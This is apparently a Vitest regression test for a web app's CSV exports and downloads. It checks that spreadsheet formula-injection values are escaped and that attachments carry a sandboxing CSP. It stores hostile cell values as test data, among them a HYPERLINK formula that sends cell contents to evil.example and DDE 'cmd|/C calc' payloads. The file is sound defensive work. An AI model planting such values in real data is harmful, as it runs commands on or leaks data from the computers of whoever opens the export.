import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvCell, csvString } from "../../server/csv";
import { DOWNLOAD_CSP } from "../../server/http/downloads";
import { CookieJar, createTestApp, type TestApp } from "../support/app";
import { createTestDatabase, type TestDatabase } from "../support/database";
import { makeRegion, makeUserWithToken, TEST_NOW, TEST_PASSWORD } from "../support/factories";
import { apiRoutes, pageRoutes } from "../support/route-inventory";

/*
 * Issue 14, findings 5 and 10(d): a partner who names its city `=HYPERLINK(...)` ran a formula on
 * the computer of whoever opened the export, and the sandboxing CSP of a downloaded document was
 * replaced by the pages' policy. Every CSV goes through server/csv.ts (decision 091), and every
 * download is sandboxed.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(?:[.,]\d+)?$/;

/** The values a hostile partner would store, each a formula to a spreadsheet. */
const POISON = {
  name: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")",
  city: "+cmd|' /C calc'!A0",
  sector: "@SUM(1+1)*cmd|' /C calc'!A0",
  street: "-2+3+cmd|' /C calc'!A0",
  tag: "@=1+1",
};

const SMALL_PDF = Buffer.from(
  "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
);

/** The cells of a ';' or ',' separated file, quotes undone (RFC 4180). */
function csvCells(text: string): string[][] {
  const body = text.replace(/^\uFEFF/, "");
  const delimiter = (body.split("\n")[0] ?? "").includes(";") ? ";" : ",";
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endRow = () => {
    row.push(cell);
    rows.push(row);
    row = [];
    cell = "";
  };
  for (let i = 0; i < body.length; i++) {
    const char = body[i]!;
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === "") quoted = true;
    else if (char === delimiter) {
      row.push(cell);
      cell = "";
    } else if (char === "\n") endRow();
    else if (char === "\r" && body[i + 1] === "\n") {
      i++;
      endRow();
    } else cell += char;
  }
  if (cell || row.length) endRow();
  return rows;
}

function formulaCells(text: string): string[] {
  return csvCells(text).flat().filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
}

describe("the CSV cell encoder (decision 091)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["-", "'-"],
    ["Enschede", "Enschede"],
    ["a=b", "a=b"],
    ["-12", "-12"],
    ["-2630,00", "-2630,00"],
    ["3.5", "3.5"],
    [-12, "-12"],
    [0, "0"],
    [null, ""],
  ] as const)("writes %j as %j", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it("writes rows with ';', a byte-order mark and neutralised cells", () => {
    expect(csvString([["naam", "plaats"], [POISON.name, POISON.city], ["Hulshof", -5]])).toBe(
      `\uFEFFnaam;plaats\n"'=HYPERLINK(""https://evil.example/?""&A1,""Klik"")";'+cmd|' /C calc'!A0\nHulshof;-5\n`,
    );
  });
});

const ROOT = path.resolve(".");
function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const full = path.join(dir, name);
    if (name === "node_modules") return [];
    return statSync(full).isDirectory() ? filesUnder(full) : /\.(ts|tsx|js)$/.test(name) ? [full] : [];
  });
}

describe("every CSV Schakel writes goes through the one cell encoder", () => {
  it("csv-stringify is imported by server/csv.ts alone", () => {
    const importers = ["server", "app", "db", "emails", "scripts", "bin"]
      .flatMap((dir) => filesUnder(path.join(ROOT, dir)))
      .filter((file) => /from\s+["']csv-stringify|require\(\s*["']csv-stringify|import\(\s*["']csv-stringify/.test(readFileSync(file, "utf8")))
      .map((file) => path.relative(ROOT, file));
    expect(importers).toEqual(["server/csv.ts"]);
  });

  it("no code writes CSV by joining cells itself (a text/csv answer is built from server/csv.ts)", () => {
    const handRolled = ["server", "app"]
      .flatMap((dir) => filesUnder(path.join(ROOT, dir)))
      .filter((file) => /\.join\(\s*["'][;,]["']\s*\)\s*\)?\s*\.join\(\s*["']\\r?\\n["']/.test(readFileSync(file, "utf8")))
      .map((file) => path.relative(ROOT, file));
    expect(handRolled).toEqual([]);
  });
});

describe("every download, asked for with poisoned data: no formula in any CSV cell, a sandboxing CSP on every attachment", () => {
  let t: TestDatabase;
  let web: TestApp;
  const jar = new CookieJar();
  let adminToken: string;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    t = await createTestDatabase();
    web = createTestApp(t.db, { remix: true, now: TEST_NOW });
    const region = await makeRegion(t.db);
    const admin = await makeUserWithToken(t.db, { regionId: region.id, role: "admin" });
    const penvoerder = await makeUserWithToken(t.db, { regionId: region.id, role: "penvoerder" });
    adminToken = admin.token;
    ids.users = admin.user.id;
    await web.postForm("/sign-in", { email: admin.user.email, password: TEST_PASSWORD, redirectTo: "/" }, { jar });
    const api = async (urlPath: string, body: unknown, token = adminToken) => {
      const response = await web.request(`/api/v1${urlPath}`, { method: "POST", token, body: body instanceof FormData ? body : JSON.stringify(body) });
      expect(response.status, `${urlPath}: ${await response.clone().text()}`).toBeLessThan(300);
      return (await response.json()) as Record<string, unknown> & { id: string };
    };
    // The partner's own hostile values, as its portal lets it store them, in every text column an export writes.
    const organisation = await api("/organisations", {
      kind: "company", name: POISON.name, city: POISON.city, sector: POISON.sector, street: POISON.street,
      tier: "regular", status: "active", tags: [POISON.tag],
    });
    ids.organisations = organisation.id;
    ids.people = (await api("/people", { name: POISON.city, email: null, phone: null, lawfulBasis: "legitimate_interest", optOut: false })).id;
    const commitment = await api("/commitments", { organisationId: organisation.id, schoolYear: "2025-2026", kind: "cash", category: "cash", amountCents: 250000 }, penvoerder.token);
    ids.commitments = commitment.id;
    const evidence = new FormData();
    for (const [key, value] of Object.entries({ date: "2025-10-01", amountCents: "100000", description: POISON.name })) evidence.set(key, value);
    evidence.set("evidence", new Blob([SMALL_PDF], { type: "application/pdf" }), "=factuur.pdf");
    const realisation = await api(`/commitments/${commitment.id}/realisations`, evidence, penvoerder.token);
    ids.documents = (realisation.document as { id: string }).id;
    const agreement = new FormData();
    for (const [key, value] of Object.entries({ kind: "letter_of_intent", title: POISON.name, organisationIds: organisation.id, signedOn: "2026-01-15" })) agreement.set(key, value);
    agreement.set("document", new Blob([SMALL_PDF], { type: "application/pdf" }), "intentie.pdf");
    const agreementBody = await api("/agreements", agreement, penvoerder.token);
    ids.agreements = agreementBody.id;
    ids.agreementDocument = (agreementBody.document as { id: string }).id;
  });
  afterAll(() => t.drop());

  /** A route's parameters filled from the records above, by the name of the collection before each. */
  function concrete(routePath: string): string[] {
    const segments = routePath.split("/");
    const filled = segments.map((segment, i) => {
      if (!segment.startsWith(":")) return [segment];
      const name = segment.slice(1);
      if (name === "schoolYear") return ["2025-2026"];
      if (name === "organisationId") return [ids.organisations!];
      const collection = segments[i - 1] ?? "";
      if (collection === "documents") return [ids.documents!, ids.agreementDocument!];
      return [ids[collection] ?? ids.organisations!];
    });
    return filled.reduce<string[][]>((paths, options) => paths.flatMap((p) => options.map((o) => [...p, o])), [[]]).map((p) => p.join("/") || "/");
  }

  const VARIANTS: Array<{ query: string; headers: Record<string, string> }> = [
    { query: "", headers: {} },
    { query: "?format=csv", headers: {} },
    { query: "?format=xlsx", headers: {} },
    { query: "?format=pdf", headers: {} },
    { query: "", headers: { accept: "text/csv" } },
  ];

  it("walks every GET of the API and every page of the route inventory in every format", async () => {
    const targets = [
      ...apiRoutes().filter((route) => route.method === "GET").map((route) => ({ path: route.path, token: adminToken })),
      ...(await pageRoutes()).filter((route) => route.hasLoader && !/sign-out|:token/.test(route.path)).map((route) => ({ path: route.path, token: undefined })),
    ];
    const csvAnswers: string[] = [];
    const attachments: string[] = [];
    const problems: string[] = [];
    let poisonSeen = 0;
    for (const target of targets) {
      for (const address of concrete(target.path)) {
        for (const variant of VARIANTS) {
          const url = `${address}${variant.query}`;
          const response = await web.request(url, { method: "GET", headers: variant.headers, ...(target.token ? { token: target.token } : { jar }) });
          const type = response.headers.get("content-type") ?? "";
          const disposition = response.headers.get("content-disposition") ?? "";
          const label = `${url}${variant.headers.accept ? " (Accept: text/csv)" : ""}`;
          if (/^\s*attachment/i.test(disposition)) {
            attachments.push(label);
            if (response.headers.get("content-security-policy") !== DOWNLOAD_CSP) problems.push(`${label}: CSP ${response.headers.get("content-security-policy")}`);
          }
          if (type.startsWith("text/csv")) {
            csvAnswers.push(label);
            const body = await response.text();
            if (body.includes("'=HYPERLINK") || body.includes("'+cmd")) poisonSeen++;
            for (const cell of formulaCells(body)) problems.push(`${label}: a cell starts a formula: ${JSON.stringify(cell)}`);
          } else {
            if (response.status >= 500) problems.push(`${label}: ${response.status}`);
            // Walk away without reading, as a browser whose user cancels the download does.
            await response.body?.cancel();
          }
        }
      }
    }
    expect(problems).toEqual([]);
    // The walk found the CSV writers (organisation export and report, on the API and the pages) and the document downloads.
    expect(csvAnswers.some((label) => label.startsWith("/api/v1/organisations?format=csv"))).toBe(true);
    expect(csvAnswers.some((label) => label.startsWith("/organisations/export"))).toBe(true);
    expect(csvAnswers.some((label) => label.startsWith("/api/v1/reports/school-years/2025-2026"))).toBe(true);
    expect(csvAnswers.some((label) => label.startsWith("/reports/2025-2026/download"))).toBe(true);
    expect(attachments).toContain(`/api/v1/documents/${ids.documents}`);
    expect(attachments).toContain(`/api/v1/documents/${ids.agreementDocument}`);
    expect(poisonSeen, "the poisoned values reached the CSV files").toBeGreaterThanOrEqual(4);
  }, 300_000);

  it("a person cancelling every streamed download halfway throws nothing (an uncaught error would end the process)", async () => {
    for (const url of ["/api/v1/organisations?format=xlsx", "/api/v1/organisations?format=csv", "/api/v1/reports/school-years/2025-2026?format=pdf", "/api/v1/reports/school-years/2025-2026?format=xlsx"]) {
      const response = await web.request(url, { token: adminToken });
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      await reader.read();
      await reader.cancel();
    }
    // Late chunks of the cancelled streams arrive on later turns of the event loop.
    await new Promise((resolve) => setTimeout(resolve, 500));
  });

  it("serves a downloaded document with the sandboxing CSP, not the pages' policy (the attack)", async () => {
    const response = await web.request(`/api/v1/documents/${ids.documents}`, { token: adminToken });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("writes the partner's =HYPERLINK city as text in the organisation export (the attack)", async () => {
    const response = await web.request("/api/v1/organisations?format=csv", { token: adminToken });
    const rows = csvCells(await response.text());
    const row = rows.find((cells) => cells.includes(`'${POISON.name}`));
    expect(row, "the poisoned organisation's row").toBeDefined();
    expect(row).toContain(`'${POISON.city}`);
    expect(formulaCells(await (await web.request("/api/v1/organisations?format=csv", { token: adminToken })).text())).toEqual([]);
  });
});
